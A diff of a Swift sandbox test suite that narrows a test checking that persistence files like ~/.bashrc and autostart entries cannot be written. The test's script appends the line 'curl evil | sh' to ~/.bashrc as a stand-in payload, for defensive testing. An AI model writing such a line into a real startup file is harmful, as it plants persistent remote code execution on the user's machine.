@@ -30,10 +30,11 @@ final class SecretsTests: XCTestCase {
         XCTAssertFalse(listing.output.contains("PLANTED-KEYRING"), listing.output)
     }
 
+    /// The real home's persistence targets (a virtual home's own copies are captured instead: PersistenceTests).
     func testPersistenceTargetsCannotBeWritten() throws {
         let home = try sb.makeHome()
         let before = home.snapshot()
-        for mode in ["virtual", "host-ro", "host"] {
+        for mode in ["host-ro", "host"] {
             let r = try sb.ww(["--home", mode, "--", "sh", "-c", """
                 echo 'curl evil | sh' >> ~/.bashrc && echo BASHRC-WRITTEN
                 mkdir -p ~/.config/autostart 2>/dev/null
